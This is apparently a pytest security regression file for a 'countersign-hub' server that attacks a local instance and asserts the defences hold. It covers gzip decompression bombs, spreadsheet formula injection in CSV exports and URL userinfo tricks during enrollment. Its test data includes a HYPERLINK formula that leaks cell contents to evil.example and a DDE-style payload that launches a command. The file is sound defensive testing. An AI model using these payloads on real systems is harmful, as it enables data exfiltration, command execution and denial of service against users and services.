"""Issue 15: what the hub takes in, signs and hands out cannot be turned against it or
its readers. Each test performs the attack against a running `countersign-hub` (and,
where a laptop is involved, a running gateway) and asserts the effect did not happen:

- item 3: unauthenticated gzip bombs are answered 401 without being read or inflated
  (the hub's peak memory stays near its baseline; the answer comes before the client has
  finished sending); an enrolled device's batch over the cap is answered 413 and nothing
  of it is stored;
- item 4: a client name, client version or tool name written as a spreadsheet formula is
  exported inert (a leading single quote) in the audit and entitlements CSV;
- item 13: a policy uploaded as an inline table or dotted keys is either published as a
  bundle a laptop applies (the call is denied) or refused with the previous version kept
  published; never answered 200 and then refused by every laptop;
- item 6 (enroll): `countersign enroll http://127.0.0.1@<another host>` is refused before
  anything (the enrollment token above all) leaves the laptop."""

import csv
import gzip
import io
import json
import socket
import subprocess
import threading
import tomllib
import uuid

import httpx2 as httpx
import pytest

from conftest import BIN, Rpc, connect, memory_server, python_server, text_of, wait_for
from test_hub import Hub, running_hub, sync

pytestmark = pytest.mark.anyio

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(params=["sqlite", "postgres"])
def any_hub(request, tmp_path):
    yield from running_hub(tmp_path, request.param)


@pytest.fixture
def sqlite_only_hub(tmp_path):
    yield from running_hub(tmp_path, "sqlite")


def peak_rss_mib(pid: int) -> float:
    """The process's peak resident memory so far (VmHWM), in MiB."""
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


def bomb(inflated: int) -> bytes:
    """A gzip body of about inflated/1000 bytes that inflates to `inflated` bytes."""
    return gzip.compress(b"\0" * inflated, compresslevel=9)


def enroll_raw(hub: Hub) -> str:
    """A device credential straight from the hub's API (no gateway)."""
    r = httpx.post(f"{hub.url}/v1/enroll", json={"token": hub.enrollment_token(), "name": "raw"})
    assert r.status_code == 200, r.text
    return r.json()["credential"]


# --- item 3 -----------------------------------------------------------------------------


def test_sec15_03_unauthenticated_gzip_bombs_are_refused_before_they_are_inflated(sqlite_only_hub):
    hub = sqlite_only_hub
    # 63 MiB of zeros in ~64 KiB: under the 64 MiB the hub once inflated for anyone.
    body = bomb(63 << 20)
    assert len(body) < 100_000

    # The answer comes before the body: half of it sent, then the hub must already say 401.
    with socket.create_connection(("127.0.0.1", hub.port), timeout=5) as s:
        s.sendall((f"POST /v1/ingest HTTP/1.1\r\nHost: 127.0.0.1:{hub.port}\r\nContent-Type: application/json\r\n"
                   f"Content-Encoding: gzip\r\nAuthorization: Bearer csd_{'0' * 64}\r\n"
                   f"Content-Length: {len(body)}\r\n\r\n").encode() + body[:len(body) // 2])
        try:
            head = s.recv(4096)
        except socket.timeout:
            head = b""
        assert head.startswith(b"HTTP/1.1 401"), f"no 401 while the body was still being sent: {head[:200]!r}"

    # Eight at once, on every route that takes a body, with no or wrong credentials.
    baseline = peak_rss_mib(hub.proc.pid)
    attempts = [("POST", "/v1/ingest", None), ("POST", "/v1/ingest", f"csd_{'1' * 64}"),
                ("POST", "/v1/ingest", hub.admin), ("PUT", "/v1/policy", None),
                ("PUT", "/v1/policy", f"csd_{'2' * 64}"), ("POST", "/v1/enrollment-tokens", None),
                ("POST", "/v1/enrollment-tokens", f"csa_{'3' * 64}"), ("POST", "/v1/enroll", None)]
    statuses: dict[int, int] = {}

    def send(i: int, method: str, path: str, credential: str | None):
        headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
        if credential:
            headers["Authorization"] = f"Bearer {credential}"
        try:
            statuses[i] = httpx.request(method, f"{hub.url}{path}", content=body, headers=headers,
                                        timeout=60).status_code
        except httpx.HTTPError:
            statuses[i] = -1  # the hub hung up after answering, before the body was all sent

    threads = [threading.Thread(target=send, args=(i, *a)) for i, a in enumerate(attempts)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(90)
    peak = peak_rss_mib(hub.proc.pid)
    assert peak - baseline < 64, f"the hub's peak memory grew {peak - baseline:.0f} MiB (from {baseline:.0f})"
    # Refused: 401 for the routes with a credential, 413 for enrollment (its few KiB cap).
    want = {i: (413 if path == "/v1/enroll" else 401) for i, (_, path, _) in enumerate(attempts)}
    got = {i: s for i, s in statuses.items() if s != -1}
    assert got == {i: want[i] for i in got} and got, (statuses, want)
    assert hub.proc.poll() is None, "the hub is still running"
    assert hub.records() == []


def test_sec15_03_an_enrolled_devices_batch_over_the_cap_gets_413_and_nothing_is_stored(any_hub):
    hub = any_hub
    credential = enroll_raw(hub)
    auth = {"Authorization": f"Bearer {credential}"}
    record_id = str(uuid.uuid4())
    record = {"seq": 1, "id": record_id, "time": "2026-11-29T10:00:00Z", "kind": "call", "user": "u", "device": "d",
              "client": None, "client_name": None, "client_version": None, "session": None, "server": "s",
              "tool": "t", "method": "tools/call", "arguments": json.dumps({"pad": "A" * (65 << 20)}),
              "decision": "allow", "rule": None, "reason": None, "approval": None, "policy_version": None,
              "class": None, "label": None, "prev_hash": None, "hash": None}
    body = gzip.compress(json.dumps({"records": [record], "outcomes": []}).encode(), compresslevel=6)
    assert len(body) < 1 << 20
    r = httpx.post(f"{hub.url}/v1/ingest", content=body, timeout=60,
                   headers={**auth, "Content-Encoding": "gzip", "Content-Type": "application/json"})
    assert r.status_code == 413, r.text
    assert "67108864-byte limit of /v1/ingest" in r.json()["error"], r.text
    assert hub.records() == [], "nothing of the refused batch is stored"
    device = [d for d in hub.get("/v1/devices").json() if d["name"] == "raw"]
    assert device and device[0]["last_seq"] is None and device[0]["last_seen"] is None, device
    # The credential itself was good: the same device is served elsewhere.
    assert httpx.get(f"{hub.url}/v1/policy/bundle", headers=auth).status_code == 404


# --- item 4 -----------------------------------------------------------------------------


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_inert(rows: list[list[str]], what: str):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) and not cell.lstrip().startswith(FORMULA_START), \
                f"{what}: a live formula cell {cell!r} in {row}"


async def test_sec15_04_formulas_from_devices_are_exported_inert(make_gateway, tmp_path, sqlite_only_hub):
    hub = sqlite_only_hub
    link = '=HYPERLINK("http://evil.example/?leak="&A2,"Open report")'
    tools = [{"name": "-2+3", "description": "A tool with a formula for a name.", "inputSchema": {
        "type": "object", "properties": {"note": {"type": "string"}}}}]
    spec = tmp_path / "tools.json"
    spec.write_text(json.dumps(tools))
    gw = make_gateway({"h": python_server("shifty_server.py", str(spec))}, policy={"allow": ["mcp__h"]})
    gw.cli("enroll", hub.url, hub.enrollment_token())
    rpc = Rpc(gw, "/mcp/h", client_name=link)
    assert rpc.request("tools/list") is not None
    assert rpc.call("tools/call", {"name": "-2+3", "arguments": {"note": "@SUM(1+1)*cmd|' /C calc'!A0"}})
    rpc.close()
    gw.wait_audit(lambda r: r["tool"] == "-2+3" and r["outcome"], "the call's record")
    sync(gw)

    audit = csv_rows(hub.get("/v1/audit", format="csv").text)
    header = audit[0]
    calls = [dict(zip(header, row)) for row in audit[1:] if dict(zip(header, row)).get("tool") == "'-2+3"]
    assert calls, f"the call is exported with its tool name made inert: {audit}"
    assert calls[0]["client_name"] == "'" + link, calls[0]
    assert json.loads(calls[0]["arguments"])["note"].startswith("@SUM"), "the arguments are kept as JSON"
    assert_inert(audit, "audit CSV")

    entitlements = csv_rows(hub.get("/v1/entitlements", format="csv").text)
    assert any(row[2] == "'-2+3" for row in entitlements[1:]), entitlements
    assert_inert(entitlements, "entitlements CSV")
    # JSON stays exact: the quote is only for spreadsheets.
    assert any(r["client_name"] == link for r in hub.records())


# --- item 13 ----------------------------------------------------------------------------


def bundle_version_at_hub(hub: Hub, credential: str) -> int | None:
    r = httpx.get(f"{hub.url}/v1/policy/bundle", headers={"Authorization": f"Bearer {credential}"})
    return r.json()["version"] if r.status_code == 200 else None


def delivered_version(gw) -> int | None:
    path = gw.home / "policy" / "bundle.toml"
    try:
        return tomllib.loads(path.read_text())["bundle"]["version"]
    except (OSError, tomllib.TOMLDecodeError, KeyError):
        return None


def explain(gw, name: str) -> dict:
    return json.loads(gw.cli("policy", "explain", name, "--config", str(gw.config), "--json").stdout)


async def test_sec15_13_policy_in_any_toml_shape_is_enforced_by_laptops_or_refused(make_gateway, tmp_path):
    keys = tmp_path / "keys"
    # No passphrase: an encrypted key costs seconds of scrypt in a debug build, twice.
    subprocess.run([str(BIN), "policy", "keygen", str(keys)], input="\n", capture_output=True, text=True, check=True)
    hub = Hub(tmp_path, "sqlite", signing=(keys / "bundle.key", "")).start()
    try:
        gw = make_gateway({"memory": memory_server(tmp_path / "m.json")}, policy={"allow": ["mcp__memory"]})
        (gw.managed / "managed.toml").write_text(
            f'[managed]\nbundle_public_key = "{(keys / "bundle.pub").read_text().strip()}"\n')
        gw.cli("enroll", hub.url, hub.enrollment_token())
        device = enroll_raw(hub)
        admin = {"Authorization": f"Bearer {hub.admin}"}
        shapes = [
            ("an inline table", 'policy = { deny = ["mcp__memory__read_graph"] }\n', "read_graph"),
            ("dotted keys", '# IT: no searching\npolicy.deny = ["mcp__memory__search_nodes"]\n', "search_nodes"),
        ]
        version = None
        for shape, upload, tool in shapes:
            r = httpx.put(f"{hub.url}/v1/policy", content=upload, headers=admin)
            if r.status_code != 200:
                # Refusing is allowed, with the previous version still the one published.
                assert 400 <= r.status_code < 500, f"{shape}: {r.status_code} {r.text}"
                assert bundle_version_at_hub(hub, device) == version, f"{shape}: the published version changed"
                continue
            version = r.json()["version"]
            assert bundle_version_at_hub(hub, device) == version
            wait_for(lambda: delivered_version(gw) == version, what=f"bundle {version} ({shape}) on the laptop")
            # Published: then the laptop must enforce it.
            verdict = explain(gw, f"mcp__memory__{tool}")
            assert (verdict["decision"], verdict["layer"]) == ("deny", "bundle"), f"{shape}: {verdict}"
            wait_for(lambda: gw.status()["policy_version"].startswith(f"bundle-{version}+"),
                     what=f"the gateway to apply bundle {version}")
            async with connect(gw, "http", "memory") as client:
                denied = await client.call_tool(tool, {"query": "x"} if tool == "search_nodes" else {})
                assert denied.is_error and f"mcp__memory__{tool}" in text_of(denied), f"{shape}: {text_of(denied)}"
        assert version is not None, "at least the plain shapes are published"

        # A policy a laptop would refuse is refused with the laptop's words; nothing changes.
        for upload in ('policy = { deny = ["rm"] }\n', 'policy.allow = ["request:sampling/*"]\n',
                       'bundle = { version = 999 }\npolicy.deny = []\n'):
            r = httpx.put(f"{hub.url}/v1/policy", content=upload, headers=admin)
            assert r.status_code == 422, (upload, r.status_code, r.text)
            assert bundle_version_at_hub(hub, device) == version, f"{upload!r} changed the published version"
        assert "must start with `mcp__`" in httpx.put(f"{hub.url}/v1/policy", content='policy.deny = ["rm"]\n',
                                                      headers=admin).json()["error"]
    finally:
        hub.kill()


# --- item 6 (enroll) --------------------------------------------------------------------


def this_machines_other_address() -> str:
    """An address of this machine that is not loopback (the route out), else 127.0.0.2."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("198.51.100.1", 9))  # no packet is sent: the route out is looked up
            ip = s.getsockname()[0]
        except OSError:
            ip = "127.0.0.2"
    return ip if not ip.startswith("127.") else "127.0.0.2"


class Catcher:
    """A listener standing in for a host that is not the hub: records what reaches it."""

    def __init__(self, ip: str):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((ip, 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.got: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while b"\r\n\r\n" not in data:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                    data += conn.recv(65536)
                except OSError:
                    pass
                self.got.append(data)
                conn.sendall(b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")


def test_sec15_06_enroll_parses_the_hub_url_and_sends_nothing_to_another_host(make_gateway, tmp_path):
    gw = make_gateway({"memory": memory_server(tmp_path / "m.json")})
    ip = this_machines_other_address()
    catcher = Catcher(ip)
    token = "cse_" + uuid.uuid4().hex * 2
    attempts = [(f"http://127.0.0.1@{ip}:{catcher.port}", "user info"),
                (f"http://localhost:x@{ip}:{catcher.port}/", "user info")]
    if not ip.startswith("127."):
        attempts.append((f"http://{ip}:{catcher.port}", "must be https"))
    for url, why in attempts:
        r = gw.cli("enroll", url, token, check=False)
        assert r.returncode != 0, f"{url} was accepted: {r.stdout}"
        assert why in r.stderr, f"{url}: {r.stderr}"
    assert catcher.got == [], f"a request left for {ip}: {catcher.got[:1]}"
    assert not (gw.home / "hub.json").exists(), "no hub was recorded"
    catcher.sock.close()
